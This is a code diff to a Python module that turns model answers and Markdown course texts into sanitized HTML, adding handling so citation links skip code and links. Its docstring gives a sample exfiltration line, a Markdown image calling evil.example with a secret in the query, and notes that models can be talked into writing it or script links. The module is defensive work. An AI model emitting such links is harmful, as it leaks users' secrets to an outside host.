@@ -1,4 +1,5 @@
-"""Model output as sanitized HTML: Markdown without raw HTML, without images, with safe links only.
+"""Text as sanitized HTML: Markdown without raw HTML, without images, with safe links only. For the model's
+answers (tutor.payloads) and for Markdown course texts in the reader view (courses.views.passage).
 
 A model can be talked into writing ``![x](https://evil.example/?q=<secret>)`` (the markdown-image
 exfiltration attack) or ``<script>``/``javascript:`` links; none of that survives: raw HTML is escaped
@@ -16,6 +17,7 @@ ALLOWED_TAGS = {"p", "br", "em", "strong", "code", "pre", "ul", "ol", "li", "blo
                 "h6", "table", "thead", "tbody", "tr", "th", "td", "a", "hr", "sup"}
 ALLOWED_ATTRIBUTES = {"a": {"href", "title", "class"}}
 _CITATION = re.compile(r"\[(\d{1,2})\]")
+_VERBATIM = re.compile(r"(<(pre|code|a)\b[^>]*>.*?</\2>)", re.DOTALL)  # no citation links in code or links
 
 
 class _NoImages(Treeprocessor):
@@ -53,6 +55,17 @@ def render_markdown(text, citation_urls=None):
                 return match.group(0)
             return f'<a class="cite" href="{html.escape(url)}">[{match.group(1)}]</a>'
 
-        body = _CITATION.sub(link, body)
+        body = "".join(part if _VERBATIM.fullmatch(part) else _CITATION.sub(link, part)
+                       for part in _split_verbatim(body))
     return nh3.clean(body, tags=ALLOWED_TAGS, attributes=ALLOWED_ATTRIBUTES, url_schemes={"http", "https"},
                      link_rel="noopener noreferrer nofollow", strip_comments=True)
+
+
+def _split_verbatim(body):
+    """The HTML cut into code blocks, inline code and links (kept as they are) and the text between them."""
+    parts, last = [], 0
+    for match in _VERBATIM.finditer(body):
+        parts.extend([body[last:match.start()], match.group(0)])
+        last = match.end()
+    parts.append(body[last:])
+    return parts
